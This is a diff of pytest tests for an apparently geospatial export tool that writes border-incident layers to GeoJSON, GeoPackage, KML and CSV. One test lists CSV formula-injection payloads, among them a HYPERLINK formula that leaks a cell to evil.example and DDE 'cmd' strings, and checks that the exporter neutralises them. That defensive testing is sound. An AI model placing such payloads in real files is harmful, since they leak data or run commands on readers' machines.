@@ -368,7 +368,9 @@ def test_failed_export_leaves_previous_file_and_no_temp(tmp_path, monkeypatch):
     def boom(*a, **k):
         raise OSError(28, "No space left on device")
 
-    monkeypatch.setattr(ex, "_assemble", boom)
+    import bordermap.io.geojson
+
+    monkeypatch.setattr(bordermap.io.geojson, "_assemble", boom)
     with pytest.raises(ExportError, match="No space left"):
         ex.write_geojson(_table(), target)
     assert target.read_bytes() == before
@@ -425,6 +427,10 @@ def test_names_are_sanitised_and_clashes_refused(tmp_path):
     assert [Path(f).name for f in s.files] == ["my_layer.geojson"]
     with pytest.raises(ExportError, match="both named"):
         ex.export_tables({"a b": _table(), "a_b": _table()}, tmp_path / "o2", format="geojson")
+    # GeoPackage table names (and some file systems) ignore letter case
+    with pytest.raises(ExportError, match=r"both named 'A'.*letter case"):
+        ex.export_tables({"a": _table(), "A": _table()}, tmp_path / "o3.gpkg")
+    assert not (tmp_path / "o3.gpkg").exists()
 
 
 def test_layer_name_from_data_cannot_escape(tmp_path):
@@ -450,8 +456,9 @@ def test_output_target_checks(tmp_path):
         ex.export_tables({"a": _table()}, tmp_path / "a.shp")
     with pytest.raises(ExportError, match="unknown format"):
         ex.export_tables({"a": _table()}, tmp_path / "a", format="shp")
-    with pytest.raises(ExportError, match="2 tables cannot go into one"):
-        ex.export_tables({"a": _table(), "b": _table()}, tmp_path / "a.geojson")
+    with pytest.raises(ExportError, match=r"2 tables \(a, b\) cannot go into one csv file"):
+        ex.export_tables({"a": _table(), "b": _table()}, tmp_path / "a.csv")
+    assert _files(tmp_path) == []
 
 
 # --------------------------------------------------------------------------- GeoPackage
@@ -598,6 +605,7 @@ def test_layer_tables_carry_analysis(ip_tables):
     assert list(tables) == [
         "iran-pakistan-2024",
         "iran-pakistan-2024-rings",
+        "claims",
         "frontier-iran-pakistan",
         "bands-iran-pakistan",
     ]
@@ -756,3 +764,400 @@ def test_geojson_writer_is_exact_property(rows):
         for v in num.split(","):
             assert len(v.strip().partition(".")[2]) <= 7
     assert doc["bbox"] == [xy[:, 0].min(), xy[:, 1].min(), xy[:, 0].max(), xy[:, 1].max()]
+
+
+# --------------------------------------------------------------------------- issue 9 / 10 rows
+
+
+def _layer_yaml(path: Path, name: str, *, claims: str = "", date: str = "2024-01-16") -> Path:
+    """A one-incident layer near Panjgur (written here; coordinates of the Koh-e-Sabz strike)."""
+    path.write_text(
+        f"name: {name}\ntitle: Test layer\nincidents:\n  - id: a1\n    title: Test\n"
+        f"    date: {date}\n    kind: air strike\n    actor: IRN\n"
+        "    impact: {lon: 64.1, lat: 26.9, precision_m: 1000}\n    sources: [s1]\n"
+        + claims
+        + "sources:\n  - id: s1\n    publisher: Test\n    title: Test\n    date: 2024-01-17\n"
+        "    url: https://example.org/a\n  - id: s2\n    publisher: Other\n    title: Other\n"
+        "    date: 2024-01-18\n    url: https://example.org/b\n",
+        encoding="utf-8",
+    )
+    return path
+
+
+@pytest.mark.parametrize(
+    "name", ["frontier-iran-pakistan", "bands-iran-pakistan", "claims", "FRONTIER-iran-pakistan"]
+)
+def test_layer_named_like_a_generated_table_is_refused(tmp_path, name, monkeypatch):
+    """Issue 9 row 1: such a layer used to be overwritten by the generated table, exit 0."""
+    import bordermap.analysis
+
+    layer = _layer_yaml(tmp_path / "l.yaml", name)
+
+    def no_analysis(*a, **k):
+        raise AssertionError("the name is checked before any analysis")
+
+    monkeypatch.setattr(bordermap.analysis, "analyse", no_analysis)
+    for fmt, out in (("gpkg", tmp_path / "o.gpkg"), ("geojson", tmp_path / "o")):
+        with pytest.raises(ExportError, match="generated table") as info:
+            ex.export_layers([layer], out, format=fmt, frontier="iran-pakistan", bands_km=[10])
+        assert info.value.path == str(layer) and info.value.field == "name"
+        assert "rename the layer" in str(info.value)
+    assert _files(tmp_path) == ["l.yaml"]
+
+
+def test_layer_named_like_rings_of_another_layer_is_refused(tmp_path):
+    a = _layer_yaml(tmp_path / "a.yaml", "a")
+    b = _layer_yaml(tmp_path / "b.yaml", "a-rings")
+    with pytest.raises(ExportError, match="range rings of layer 'a'"):
+        ex.export_layers([a, b], tmp_path / "o.gpkg", frontier="iran-pakistan", rings_km=[5])
+    # without rings there is no clash, and both layers are written
+    s = ex.export_layers([a, b], tmp_path / "o.gpkg", frontier="iran-pakistan", bands_km=None)
+    assert [n for n, _ in s.tables][:2] == ["a", "a-rings"]
+    assert len(pyogrio.read_dataframe(tmp_path / "o.gpkg", layer="a-rings")) == 1
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+]
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised(tmp_path):
+    """Issue 9 row 6 (OWASP CSV injection); numbers stay numbers."""
+    import csv
+
+    harmless = ["-3", "+4.5", "-1e3", "Saravan", "a=b", ""]
+    texts = INJECTIONS + harmless
+    n = len(texts)
+    g = gpd.GeoDataFrame(
+        {
+            "text": pd.Series(texts, dtype=object),
+            "count": np.arange(n, dtype="int64") - 5,  # negative numbers: untouched
+            "x": np.linspace(-2.5, 2.5, n),
+            "=evil": ["v"] * n,  # a column name from data
+        },
+        geometry=gpd.points_from_xy(np.linspace(-60, 60, n), np.zeros(n)),
+        crs=4326,
+    )
+    out = ex.write_csv(g, tmp_path / "c.csv")
+    with open(out, encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["lon", "lat", "wkt", "text", "count", "x", "'=evil"]
+    cells = [r[3] for r in rows[1:]]
+    assert cells == ["'" + t for t in INJECTIONS] + harmless
+    for r in rows[1:]:  # no cell of the file starts a formula, except plain numbers
+        for cell in r:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                assert re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell), cell
+    assert [int(r[4]) for r in rows[1:]] == list(range(-5, n - 5))
+    assert rows[1][0] == "-60.0"
+    back = pyogrio.read_dataframe(out)  # GDAL: numbers typed, texts with their quote
+    assert back["count"].tolist() == g["count"].tolist()
+    assert back["x"].tolist() == g["x"].tolist()
+    assert back["text"].tolist() == [c.replace("\r", "\n") for c in cells]  # GDAL: CR as LF
+    # the other formats are no spreadsheets: text is kept as it was
+    doc = json.loads(ex.write_geojson(g, tmp_path / "c.geojson").read_text(encoding="utf-8"))
+    assert [f["properties"]["text"] for f in doc["features"]] == texts
+
+
+def _far_dates() -> gpd.GeoDataFrame:
+    starts = [datetime(1000, 1, 1, tzinfo=UTC), datetime(2300, 1, 1, tzinfo=UTC)]
+    ends = [datetime(1001, 1, 1, tzinfo=UTC), datetime(2301, 1, 1, tzinfo=UTC)]
+    return gpd.GeoDataFrame(
+        {
+            "date_start": pd.to_datetime(pd.Series(starts, dtype=object), utc=True),
+            "date_end": pd.to_datetime(pd.Series(ends, dtype=object), utc=True),
+        },
+        geometry=gpd.points_from_xy([64.1, 62.3], [26.9, 27.4]),
+        crs=4326,
+    )
+
+
+@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "kml", "csv"])
+def test_dates_outside_the_nanosecond_range_export(tmp_path, fmt):
+    """Issue 9 row 7: year 1000 / 2300 gave a false 'sub-millisecond precision' error."""
+    g = _far_dates()
+    assert str(g["date_start"].dtype) != "datetime64[ns, UTC]"  # pandas keeps them in us
+    out = tmp_path / f"d{ex.FORMATS[fmt]}"
+    ex.export_tables({"d": g}, out, format=fmt)
+    if fmt == "geojson":
+        doc = json.loads(out.read_text(encoding="utf-8"))
+        got = [f["properties"]["date_start"] for f in doc["features"]]
+        assert got == ["1000-01-01T00:00:00Z", "2300-01-01T00:00:00Z"]
+    elif fmt == "kml":
+        back = pyogrio.read_dataframe(out, layer="d")
+        got = [v.replace(".000Z", "Z") for v in back["date_end"]]
+        assert got == ["1001-01-01T00:00:00Z", "2301-01-01T00:00:00Z"]
+    else:
+        back = pyogrio.read_dataframe(out, datetime_as_string=True)
+        assert [v[:10] for v in back["date_start"]] == ["1000-01-01", "2300-01-01"]
+    # a real sub-millisecond part is still refused, with a true message
+    g.loc[1, "date_start"] = g.loc[1, "date_start"] + pd.Timedelta(microseconds=1)
+    with pytest.raises(ExportError, match=r"2300-01-01 00:00:00\.000001.*sub-millisecond"):
+        ex.export_tables({"d": g}, tmp_path / f"e{ex.FORMATS[fmt]}", format=fmt)
+
+
+def test_any_datespec_exports():
+    """Issue 9 row 7 from the model: a DateSpec of year precision, far from today."""
+    from bordermap.incidents import DateSpec, Incident, Location, incidents_to_geodataframe
+
+    incs = [
+        Incident(
+            id=f"y{y}",
+            title="far",
+            date=DateSpec(
+                datetime(y, 1, 1, tzinfo=UTC),
+                datetime(y + 1, 1, 1, tzinfo=UTC),
+                "year",
+                text=str(y),
+            ),
+            kind="air strike",
+            actor="IRN",
+            impacts=(Location(64.1, 26.9, 1000.0),),
+        )
+        for y in (1000, 2300, 9998)
+    ]
+    gdf = incidents_to_geodataframe(incs, layer="far")
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as d:
+        doc = json.loads(ex.write_geojson(gdf, Path(d) / "f.geojson").read_text())
+    assert [f["properties"]["date_end"] for f in doc["features"]] == [
+        "1001-01-01T00:00:00Z",
+        "2301-01-01T00:00:00Z",
+        "9999-01-01T00:00:00Z",
+    ]
+
+
+def _read_only_folder(tmp_path: Path) -> Path:
+    import os
+
+    if os.geteuid() == 0:  # root writes anywhere chmod allows: use a folder the kernel refuses
+        if Path("/sys").is_dir() and not _can_create(Path("/sys")):
+            return Path("/sys")
+        pytest.skip("running as root and no read-only folder at hand")
+    ro = tmp_path / "ro"
+    ro.mkdir()
+    ro.chmod(0o555)
+    return ro
+
+
+def _can_create(folder: Path) -> bool:
+    try:
+        (folder / ".bordermap-probe").touch()
+    except OSError:
+        return False
+    (folder / ".bordermap-probe").unlink()
+    return True
+
+
+def test_bands_into_a_read_only_folder_is_one_clear_error(tmp_path, capsys):
+    """Issue 9 row 8: `corridor -o` into a read-only folder gave a traceback."""
+    from bordermap.corridors import write_bands
+
+    ro = _read_only_folder(tmp_path)
+    target = ro / "bands.geojson"
+    with pytest.raises(ExportError) as info:
+        write_bands("iran-pakistan", [10], target)
+    assert info.value.path == str(target) and "Permission denied" in str(info.value)
+    rc = main(["corridor", "iran-pakistan", "--km", "10", "-o", str(target)])
+    err = capsys.readouterr().err
+    assert rc == 1 and err.count("\n") == 1 and str(target) in err and "Traceback" not in err
+    # an export and a map: the same
+    with pytest.raises(ExportError, match="Permission denied") as info:
+        ex.write_geojson(_table(), ro / "t.geojson")
+    assert info.value.path == str(ro / "t.geojson")
+
+
+def test_bands_go_through_the_rfc7946_writer(tmp_path):
+    """corridors.write_bands writes with bordermap.io (RFC 7946), no longer GDAL's own GeoJSON."""
+    from bordermap.corridors import write_bands
+
+    bands = write_bands("iran-pakistan", [10, 25], tmp_path / "b.geojson")
+    doc = json.loads((tmp_path / "b.geojson").read_text(encoding="utf-8"))
+    assert "crs" not in doc and "bordermap" in doc and "bbox" in doc
+    assert [f["properties"]["band"] for f in doc["features"]] == ["0-10 km", "10-25 km"]
+    assert [f["properties"]["area_km2"] for f in doc["features"]] == bands["area_km2"].tolist()
+    for f in doc["features"]:
+        for poly in shapely.get_parts(shapely.geometry.shape(f["geometry"])):
+            assert poly.exterior.is_ccw
+    write_bands("iran-pakistan", [10], tmp_path / "b.gpkg")
+    assert pyogrio.list_layers(tmp_path / "b.gpkg")[:, 0].tolist() == ["bands"]
+    assert _files(tmp_path) == ["b.geojson", "b.gpkg"]
+
+
+def test_two_tables_into_one_csv_fail_before_any_work(tmp_path, capsys, monkeypatch):
+    """Issue 9 row 12: `export -o x.csv` with two tables failed only after all the work."""
+    import bordermap.analysis
+    import bordermap.incidents
+
+    def never(*a, **k):
+        raise AssertionError("no layer is read and nothing analysed")
+
+    monkeypatch.setattr(bordermap.incidents, "load_layer", never)
+    monkeypatch.setattr(bordermap.analysis, "analyse", never)
+    a = _layer_yaml(tmp_path / "a.yaml", "a")
+    b = _layer_yaml(tmp_path / "b.yaml", "b")
+    rc = main(["export", str(a), str(b), "-o", str(tmp_path / "x.csv")])
+    err = capsys.readouterr().err
+    assert rc == 1 and err.count("\n") == 1
+    assert "2 tables" in err and "cannot go into one csv file" in err and "folder" in err
+    with pytest.raises(ExportError, match="2 tables"):
+        ex.export_layers([a], tmp_path / "x.csv", tables="a,claims")
+    assert _files(tmp_path) == ["a.yaml", "b.yaml"]
+
+
+def test_one_csv_file_gets_the_incidents(tmp_path):
+    layer = _layer_yaml(tmp_path / "a.yaml", "a")
+    s = ex.export_layers([layer], tmp_path / "x.csv", frontier="iran-pakistan")
+    assert s.files == (str(tmp_path / "x.csv"),) and [n for n, _ in s.tables] == ["a"]
+    back = pyogrio.read_dataframe(tmp_path / "x.csv")
+    assert back["id"].tolist() == ["a1"] and back["frontier"].tolist() == ["iran-pakistan"]
+
+
+def test_long_layer_names(tmp_path):
+    """Issue 9 row 12: a 240-character layer name failed on the temporary name."""
+    name = "n" * 240
+    layer = _layer_yaml(tmp_path / "a.yaml", name)
+    out = tmp_path / "o"
+    s = ex.export_layers([layer], out, format="geojson", frontier="iran-pakistan", bands_km=None)
+    assert Path(s.files[0]).name == name + ".geojson"
+    assert json.loads(Path(s.files[0]).read_text())["features"][0]["properties"]["id"] == "a1"
+    s = ex.export_layers([layer], tmp_path / "o2", format="csv", frontier="iran-pakistan")
+    assert {name + ".csv", name + ".csvt"} <= set(_files(tmp_path / "o2"))
+    # too long for the file system: one clear error, before the analysis
+    layer = _layer_yaml(tmp_path / "b.yaml", "m" * 250)
+    with pytest.raises(ExportError, match="bytes long, more than the 255") as info:
+        ex.export_layers([layer], tmp_path / "o3", format="geojson", frontier="iran-pakistan")
+    assert info.value.path.endswith(".geojson")
+    assert not (tmp_path / "o3").exists()
+    with pytest.raises(ExportError, match="bytes long"):
+        ex.write_geojson(_table(), tmp_path / ("x" * 300 + ".geojson"))
+
+
+_KILLED_WRITER = """
+import os, signal, sys
+from bordermap.io._files import writing
+with writing() as files:
+    tmp = files.temp_for(sys.argv[1])
+    tmp.write_text("half written")
+    os.kill(os.getpid(), signal.SIGKILL)
+"""
+
+
+def test_temp_files_of_a_killed_run_are_cleaned_on_the_next_write(tmp_path):
+    """Issue 9 rows 12 / deliverable 4: kill -9 during a write; the next write cleans up."""
+    import os
+    import sys
+
+    target = tmp_path / "t.geojson"
+    env = {**os.environ, "PYTHONPATH": str(Path(ex.__file__).parents[1])}
+    r = subprocess.run([sys.executable, "-c", _KILLED_WRITER, str(target)], env=env)
+    assert r.returncode == -9
+    left = _files(tmp_path)
+    assert len(left) == 1 and left[0].startswith(".bordermap-tmp-") and not target.exists()
+    # a live writer's temporary file (this process) is never touched
+    from bordermap.io._files import host_tag
+
+    live = tmp_path / f".bordermap-tmp-{host_tag()}-{os.getpid()}-0000.geojson"
+    live.write_text("in progress")
+    elsewhere = tmp_path / ".bordermap-tmp-00000000-999999999-0000.geojson"  # another machine
+    elsewhere.write_text("not ours to judge")
+    other = tmp_path / ".other-tool.tmp"  # and nothing that is not ours
+    other.write_text("x")
+    ex.write_geojson(_table(), target)
+    assert _files(tmp_path) == sorted([live.name, elsewhere.name, other.name, "t.geojson"])
+    assert len(left[0]) < 50  # short, whatever the target's name
+
+
+def test_claims_table_numbers_in_every_format(tmp_path):
+    """Issue 10 deliverable 2: casualty figures as numbers, one row per claim and category."""
+    import sqlite3
+
+    claims = (
+        "    claims:\n      - claimant: IRN\n        casualties:\n          killed: 2\n"
+        "          injured_civilians: {low: 3, best: 4}\n        sources: [s1, s2]\n"
+        "      - claimant: PAK\n        casualties:\n"
+        "          killed: {low: 7, best: 9, high: 12}\n"
+        "        sources: [s2]\n      - claimant: Jaish al-Adl\n        outcome: claimed\n"
+        "        sources: [s1]\n"
+    )
+    layer = _layer_yaml(tmp_path / "a.yaml", "a", claims=claims)
+    expected = [
+        ("a1", "IRN", "killed", 2, 2, 2, "s1;s2", "a"),
+        ("a1", "IRN", "injured_civilians", 3, 4, None, "s1;s2", "a"),
+        ("a1", "PAK", "killed", 7, 9, 12, "s2", "a"),
+    ]
+    cols = ["incident_id", "claimant", "category", "low", "best", "high", "source_ids", "layer"]
+    kw = {"frontier": "iran-pakistan", "bands_km": None}
+    ex.export_layers([layer], tmp_path / "o.gpkg", **kw)
+    with sqlite3.connect(tmp_path / "o.gpkg") as con:
+        rows = con.execute(f"SELECT {', '.join(cols)} FROM claims ORDER BY fid").fetchall()
+    assert rows == expected
+    ex.export_layers([layer], tmp_path / "o.geojson", tables="claims", **kw)
+    doc = json.loads((tmp_path / "o.geojson").read_text(encoding="utf-8"))
+    assert [tuple(f["properties"][c] for c in cols) for f in doc["features"]] == expected
+    assert all(f["geometry"] is None for f in doc["features"])
+    ex.export_layers([layer], tmp_path / "csv", format="csv", **kw)
+    assert _files(tmp_path / "csv") == [
+        "a.csv", "a.csvt", "claims.csv", "claims.csvt", "frontier-iran-pakistan.csv",
+        "frontier-iran-pakistan.csvt",
+    ]  # fmt: skip
+    back = pyogrio.read_dataframe(tmp_path / "csv" / "claims.csv")
+    assert back["best"].dtype == np.int64 and back["best"].tolist() == [2, 4, 9]
+    assert back["low"].sum() == 12  # summable without parsing text
+    ex.export_layers([layer], tmp_path / "o.kml", **kw)
+    back = pyogrio.read_dataframe(tmp_path / "o.kml", layer="claims")
+    assert back["best"].tolist() == [2, 4, 9] and back["high"].tolist()[2] == 12
+
+
+def test_one_geojson_file_is_one_feature_collection(tmp_path):
+    """Issue 10 deliverable 5: `-o incidents.geojson` writes one FeatureCollection."""
+    layer = LAYERS / "iran-pakistan-2024.yaml"
+    out = tmp_path / "incidents.geojson"
+    s = ex.export_layers([layer], out, frontier="iran-pakistan")
+    assert s.files == (str(out),) and [n for n, _ in s.tables] == ["iran-pakistan-2024"]
+    doc = json.loads(out.read_text(encoding="utf-8"))
+    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == s.tables[0][1]
+    assert {f["geometry"]["type"] for f in doc["features"]} == {"Point"}
+    back = pyogrio.read_dataframe(out)
+    assert len(back) == s.tables[0][1] and (back["frontier"] == "iran-pakistan").all()
+    _ogrinfo(out)
+    # named tables: their features one after the other, listed in the metadata
+    s = ex.export_layers(
+        [layer], out, frontier="iran-pakistan", tables=["iran-pakistan-2024", "bands-iran-pakistan"]
+    )
+    doc = json.loads(out.read_text(encoding="utf-8"))
+    n_inc, n_bands = (c for _, c in s.tables)
+    assert doc["bordermap"]["tables"] == [
+        {"name": "iran-pakistan-2024", "features": n_inc},
+        {"name": "bands-iran-pakistan", "features": n_bands},
+    ]
+    kinds = [f["geometry"]["type"] for f in doc["features"]]
+    assert kinds[:n_inc] == ["Point"] * n_inc
+    assert set(kinds[n_inc:]) <= {"Polygon", "MultiPolygon"} and len(kinds) == n_inc + n_bands
+    with pytest.raises(ExportError, match="no table named 'nope'") as info:
+        ex.export_layers([layer], out, frontier="iran-pakistan", tables="nope")
+    assert "bands-iran-pakistan" in str(info.value)
+    # a folder still gets one file per table
+    s = ex.export_layers([layer], tmp_path / "folder", format="geojson", frontier="iran-pakistan")
+    assert len(s.files) == len(s.tables) > 2
+
+
+def test_format_registry():
+    from bordermap import io
+
+    assert list(io.formats()) == ["geojson", "gpkg", "kml", "csv"]
+    assert io.get_format("GPKG").multi_table and not io.get_format("csv").multi_table
+    assert io.format_for_path("x.JSON").name == "geojson"
+    assert io.get_format("csv").file_names("t") == ("t.csv", "t.csvt")
+    assert io.get_format("geojson").can_read and not io.get_format("kml").can_read
+    assert io.get_format("csv").read_function().__name__ == "load_layer"
+    with pytest.raises(ExportError, match="unknown format 'shp'"):
+        io.get_format("shp")
+    assert dict(ex.FORMATS) == {f: io.get_format(f).extension for f in io.formats()}
